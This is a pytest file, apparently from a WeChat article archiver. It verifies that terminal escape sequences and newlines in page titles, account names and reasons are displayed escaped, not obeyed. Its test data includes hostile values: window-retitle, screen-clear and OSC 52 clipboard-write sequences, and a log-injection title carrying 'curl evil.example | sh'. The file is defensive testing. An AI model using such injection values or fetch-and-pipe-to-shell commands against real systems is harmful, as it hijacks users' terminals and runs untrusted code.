"""Others' text on a terminal (issue 25, security 3): a title, account or WeChat's reason holding ESC, BEL
or a C1 control is shown with the control made visible by `get`, `ls`, `check` and the log, never obeyed."""
from __future__ import annotations

import sys
from pathlib import Path

from conftest import TESTS

sys.path.insert(0, str(TESTS / "fuzz"))
import wxpages  # noqa: E402
from test_terminal import run_in_pty  # noqa: E402

from wxarchive.jobs.check import CheckOutcome  # noqa: E402
from wxarchive.cli.checkcmd import change_line  # noqa: E402

# retitles the window, clears the screen, rings, and a C1 CSI (U+009B) that some terminals obey
HOSTILE = "标题\x1b]0;pwned\x07\x1b[2J\x9b31m红\x1b[0m"
RAW = ("\x1b", "\x07", "\x9b")


def _page(tmp_path: Path) -> Path:
    p = tmp_path / "hostile.html"
    p.write_bytes(wxpages.page(HOSTILE, account="号\x1b[5m闪", mid=2650007001))
    return p


def test_get_and_ls_on_a_terminal_show_controls(tmp_path: Path) -> None:
    arch = tmp_path / "a"
    run = run_in_pty("get", str(_page(tmp_path)), "--out", str(arch), "--no-images", "-v",
                     "--log", str(tmp_path / "w.log"))
    assert run.code == 0, run.screen
    assert "标题\\x1b]0;pwned\\x07" in run.screen
    assert not any(c in run.screen for c in RAW), repr(run.screen)
    listed = run_in_pty("ls", "--out", str(arch))
    assert listed.code == 0 and "\\x1b[2J" in listed.screen and not any(c in listed.screen for c in RAW)


def test_a_title_with_a_newline_is_one_log_line(tmp_path: Path) -> None:
    """A newline in a title cannot put a line of its own (a shell command) into a log file."""
    p = tmp_path / "nl.html"
    p.write_bytes(wxpages.page("标题\ncurl evil.example | sh\n", mid=2650007002))
    log = tmp_path / "w.log"
    run = run_in_pty("get", str(p), "--out", str(tmp_path / "a"), "--no-images", "--log", str(log))
    assert run.code == 0, run.screen
    assert not any(ln.startswith("curl") for ln in log.read_text(encoding="utf-8").splitlines())


def test_check_lines_show_controls() -> None:
    o = CheckOutcome("k", "https://mp.weixin.qq.com/s/x", "_posts/x.md", HOSTILE, "alive", "removed", "removed",
                     changed=True, reason="违规\x1b]52;c;ZXZpbA==\x07")  # OSC 52 writes the clipboard
    line = change_line(o)
    assert not any(c in line for c in RAW) and "\\x1b]52" in line
    failed = CheckOutcome("k", "https://mp.weixin.qq.com/s/x", None, None, None, None, "http")
    failed.message = "HTTP 500: \x1b[2J"
    assert "\x1b" not in change_line(failed)
